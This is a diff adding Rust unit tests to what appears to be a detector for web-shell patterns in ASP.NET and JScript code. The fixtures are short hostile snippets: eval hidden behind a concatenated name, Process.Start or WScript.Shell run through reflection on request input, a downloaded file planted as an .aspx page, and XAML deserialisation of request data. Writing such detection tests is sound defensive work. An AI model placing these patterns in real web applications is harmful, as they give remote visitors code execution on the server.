@@ -102,3 +102,43 @@ fn a_provider_of_paths_stays_in_memory() {
     assert_eq!(codes("HostingEnvironment.RegisterVirtualPathProvider(new Example());"), ["stays-in-memory"]);
     assert_eq!(codes("HostingEnvironment.MapPath(\"~/x\");"), [""; 0]);
 }
+
+#[test]
+fn a_function_of_the_language_is_one_under_another_name() {
+    let text = |name: &str| format!("var run = this[{name}]; run(Request(\"q\"), \"x\");");
+    assert_eq!(codes_in(Language::JScript, &text("\"ev\" + \"al\"")), ["visitor-evaluated"]);
+    assert!(!codes_in(Language::JScript, &text("\"ev\" + \"ent\"")).contains(&"visitor-evaluated"));
+}
+
+#[test]
+fn a_member_is_called_by_its_name_on_the_type_or_on_an_object() {
+    let called = |object: &str| {
+        format!(
+            "Type.GetType(\"System.Diagnostics.Process\").InvokeMember(\"Start\", flags, null, {object}, new object[] {{ Request[\"q\"] }});"
+        )
+    };
+    assert!(codes(&called("null")).contains(&"visitor-started"));
+    assert!(!codes(&called("new StringBuilder()")).contains(&"visitor-started"));
+    let by_name = |object: &str| format!("CallByName({object}, \"Run\", 1, Request[\"q\"]);");
+    assert_eq!(codes(&by_name("CreateObject(\"WScript.Shell\")")), ["visitor-started"]);
+    assert!(!codes(&by_name("CreateObject(\"ADODB.Stream\")")).contains(&"visitor-started"));
+}
+
+#[test]
+fn what_another_server_sends_is_planted_where_a_server_runs_it() {
+    let kept = |name: &str| format!("new WebClient().DownloadFile(\"https://example.org/x\", {name});");
+    assert_eq!(codes(&kept("Server.MapPath(\"x.aspx\")")), ["remote-planted"]);
+    assert_eq!(codes(&kept("\"x.zip\"")), ["remote-written"]);
+}
+
+#[test]
+fn readers_that_make_objects_are_told_from_those_of_text() {
+    for reader in ["new ResXResourceReader(Q)", "ActivityXamlServices.Load(Q)", "XamlServices.Parse(Q)"] {
+        assert_eq!(
+            codes(&format!("{};", reader.replace('Q', "Request[\"q\"]"))),
+            ["visitor-deserialised"],
+            "{reader}"
+        );
+    }
+    assert!(!codes("new StringReader(Request[\"q\"]);").contains(&"visitor-deserialised"));
+}
